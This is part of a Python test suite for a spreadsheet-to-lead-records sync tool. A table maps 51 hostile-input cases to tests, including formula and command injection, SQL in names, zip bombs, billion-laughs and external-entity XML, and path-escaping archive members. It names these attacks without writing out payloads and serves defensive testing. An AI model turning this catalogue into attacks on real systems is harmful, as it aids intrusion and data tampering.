def test_44_names_of_files_tabs_and_columns_are_only_names(team: Team) -> None:
    team.book(ANA).rename(team.root / "books" / f"{NASTY}.xlsx")
    path = team.root / "books" / f"{NASTY}.xlsx"
    spoiling.rebuild(path, {"xl/workbook.xml": lambda xml: xml.replace('<sheet name="Read me"', f'<sheet name="{NASTY[:31]}"')})
    assert f"{NASTY}.xlsx" in team.sync()
    put_csv(team.root / "x.csv", [("external_id", "company", "contact_name", NASTY), ("L-7", NASTY, NASTY, NASTY)])
    mapping = team.root / "map.toml"
    mapping.write_text("custom = true\n", "utf-8")
    said = team.run("import", "leads", "x.csv", "--owner", ANA, "--mapping", mapping, "--json")
    assert said.code == 0, said
    assert team.records("leads")["L-7"]["company"] == NASTY and len(team.records("leads")) == 4
    assert team.ok("verify")["ok"]


def test_44_an_unknown_name_of_a_table_is_a_name(team: Team) -> None:
    assert team.run("export", NASTY, "--json").code == 2
    assert team.run("history", "--record", NASTY, "--json").out == {"history": []}
    assert team.run("restore", NASTY, "--to", "1", "--json").code == 2
    assert len(team.records("leads")) == 3


def test_28_a_copy_is_not_live_until_it_is_adopted(team: Team) -> None:
    copy = Path(shutil.copy(team.book(ANA), team.root / "books" / "Ana (conflicted copy).xlsx"))
    assert team.sync()[copy.name]["state"] == "copy"
    assert team.run("sync", copy, "--strict").code == 1


# ── every row of the table ───────────────────────────────────────────────────────────────────────

HERE, DISK, BOOKS, HTTP = "test_bad_inputs", "test_real_files", "test_protocol", "test_service"
ROWS: dict[str, tuple[str, ...]] = {
    "1 formula as text": (f"{HERE}:test_text_stays_text_everywhere", f"{HERE}:test_libreoffice_sees_text_and_no_formula"),
    "2 command as text": (f"{HERE}:test_text_stays_text_everywhere", f"{HERE}:test_libreoffice_sees_text_and_no_formula"),
    "3 plus, minus, at as text": (f"{HERE}:test_text_stays_text_everywhere",),
    "4 minus five as a number": (f"{HERE}:test_numbers_are_taken_exactly",),
    "5 minus five as a phone": (f"{HERE}:test_text_stays_text_everywhere",),
    "6 tab, return, line feed before a formula": (f"{HERE}:test_text_stays_text_everywhere", f"{HERE}:test_6_a_carriage_return_becomes_a_line_feed"),
    "7 full-width equals sign": (f"{HERE}:test_text_stays_text_everywhere",),
    "8 link formula in a data column": (f"{HERE}:test_a_cell_is_turned_down_with_its_reason",),
    "9 formulas with an outside effect in an own column": (f"{HERE}:test_a_formula_of_the_reps_own_stays_in_its_book",),
    "10 formula in the amount, calculated": (f"{HERE}:test_numbers_are_taken_exactly", f"{HERE}:test_10_and_39_as_libreoffice_sees_them"),
    "11 formula in the amount, not calculated": (f"{HERE}:test_a_cell_is_turned_down_with_its_reason",),
    "12 error values": (f"{HERE}:test_a_cell_is_turned_down_with_its_reason",),
    "13 link to another workbook": (f"{HERE}:test_a_formula_of_the_reps_own_stays_in_its_book",),
    "14 macros": (f"{HERE}:test_14_macros_stay_byte_for_byte",),
    "15 other formats under our ending": (f"{HERE}:test_a_file_is_refused_and_nothing_else_happens",),
    "16 encrypted": (f"{HERE}:test_a_file_is_refused_and_nothing_else_happens",),
    "17 zip bomb": (f"{HERE}:test_a_file_is_refused_and_nothing_else_happens",),
    "18 billion laughs": (f"{HERE}:test_a_file_is_refused_and_nothing_else_happens",),
    "19 external entity": (f"{HERE}:test_a_file_is_refused_and_nothing_else_happens",),
    "20 member that climbs out": (f"{HERE}:test_a_file_is_refused_and_nothing_else_happens",),
    "21 dimension far too large": (f"{HERE}:test_the_declared_size_of_a_sheet_counts_for_nothing",),
    "22 dimension far too small": (f"{HERE}:test_the_declared_size_of_a_sheet_counts_for_nothing",),
    "23 a million blank rows": (f"{HERE}:test_23_a_million_blank_rows_with_a_format_are_no_records",),
    "24 truncated, empty, half-written": (f"{HERE}:test_a_file_is_refused_and_nothing_else_happens",),
    "25 file or folder gone": (f"{HERE}:test_25_a_file_or_folder_that_is_gone_deletes_nothing",),
    "26 restored from a backup": (f"{HERE}:test_26_a_workbook_restored_from_a_backup_takes_nothing_back",),
    "27 generation never given out, foreign workbook": (f"{HERE}:test_a_file_is_refused_and_nothing_else_happens",),
    "28 copy at a second path": (
        f"{HERE}:test_28_a_copy_is_not_live_until_it_is_adopted",
        f"{BOOKS}:test_a_copy_of_any_name_is_listed_and_not_live_until_it_is_merged_once",
    ),
    "29 open in Excel or LibreOffice": (f"{HERE}:test_29_an_open_workbook_is_read_but_not_written",),
    "30 read-only, full, failing disk": (
        f"{DISK}:test_a_full_disk_defers_the_write_and_takes_the_edits",
        f"{DISK}:test_a_read_only_disk_defers_the_write_and_takes_the_edits",
        f"{DISK}:test_a_file_that_may_not_grow_defers_the_write",
    ),
    "31 links out of the workspace": (f"{HERE}:test_31_a_link_is_not_followed",),
    "32 repeated ids": (f"{HERE}:test_32_of_pasted_rows_the_one_that_did_not_change_keeps_the_id",),
    "33 id typed over": (
        f"{HERE}:test_33_an_id_typed_over_with_another_swaps_no_records",
        f"{BOOKS}:test_a_row_that_lost_its_id_is_linked_to_its_record_again",
    ),
    "34 id of another rep": (f"{HERE}:test_34_the_id_of_somebody_elses_record_is_not_yours",),
    "35 half the rows gone": (f"{HERE}:test_35_rows_that_are_gone_are_never_deleted",),
    "36 header row deleted, repeated, moved": (
        f"{HERE}:test_36_without_a_header_row_a_tab_waits_and_the_others_run",
        f"{HERE}:test_36_a_header_row_that_was_moved_is_found",
        f"{HERE}:test_36_a_header_row_pasted_among_the_rows_is_no_record",
    ),
    "37 columns renamed, moved, deleted": (
        f"{HERE}:test_37_a_column_may_be_renamed",
        f"{HERE}:test_37_columns_may_change_places_or_go",
        f"{BOOKS}:test_a_column_that_was_deleted_comes_back_with_its_values",
    ),
    "38 merged cells": (f"{HERE}:test_38_of_merged_cells_the_first_one_counts",),
    "39 zip code as a number": (f"{HERE}:test_39_a_zip_code_keeps_its_zeros",),
    "40 texts that look like something else": (f"{HERE}:test_text_stays_text_everywhere",),
    "41 percents": (f"{HERE}:test_numbers_are_taken_exactly", f"{HERE}:test_a_cell_is_turned_down_with_its_reason"),
    "42 numbers at the edges": (
        f"{HERE}:test_numbers_are_taken_exactly",
        f"{HERE}:test_42_the_same_number_in_other_words_is_no_edit",
        f"{HERE}:test_42_a_number_of_more_digits_than_a_sheet_keeps",
    ),
    "43 texts too long": (f"{HERE}:test_a_cell_is_turned_down_with_its_reason",),
    "44 SQL in values and names": (
        f"{HERE}:test_44_names_of_files_tabs_and_columns_are_only_names",
        f"{HERE}:test_44_an_unknown_name_of_a_table_is_a_name",
    ),
    "45 markup in a value": (f"{HERE}:test_text_stays_text_everywhere",),
    "46 format words in a value": (f"{HERE}:test_text_stays_text_everywhere",),
    "47 notes, pictures, charts, rules": (
        f"{HERE}:test_47_every_other_part_stays_byte_for_byte",
        f"{BOOKS}:test_own_columns_formulas_notes_and_colours_stay_while_the_record_changes",
    ),
    "48 tokens of the service": (
        f"{HTTP}:test_without_a_valid_token_nothing_is_told",
        f"{HTTP}:test_a_token_ends_by_time_by_hand_and_with_its_member",
        f"{HTTP}:test_another_members_workbook_cannot_be_pressed_or_synced",
        f"{HTTP}:test_a_rep_who_asks_for_the_team_is_refused_and_it_is_written_down",
    ),
    "49 origins, content types, keys of the service": (
        f"{HTTP}:test_a_page_that_is_not_allowed_is_blocked",
        f"{HTTP}:test_only_json_is_taken",
        f"{HTTP}:test_a_write_needs_a_key",
    ),
    "50 a request sent twice to the service": (f"{HTTP}:test_the_same_key_gives_the_same_answer_and_another_body_is_refused",),
    "51 private key in a cell": (f"{HERE}:test_a_cell_is_turned_down_with_its_reason",),
}  # fmt: skip


def test_the_table_of_bad_inputs_has_every_number() -> None:
    assert [int(name.split()[0]) for name in ROWS] == list(range(1, 52))


@pytest.mark.parametrize("tests", ROWS.values(), ids=ROWS)
def test_every_row_of_the_table_is_held_by_a_test(tests: tuple[str, ...], request: pytest.FixtureRequest) -> None:
    number = request.node.callspec.id.split()[0]
    for one in tests:
        module, name = one.split(":")
        text = Path(__file__).with_name(f"{module}.py").read_text("utf-8").partition("\nROWS: dict")[0]
        assert f"def {name}(" in text
        assert module != HERE or f'"{number} ' in text or f"def test_{number}_" in text, f"no case of row {number}"
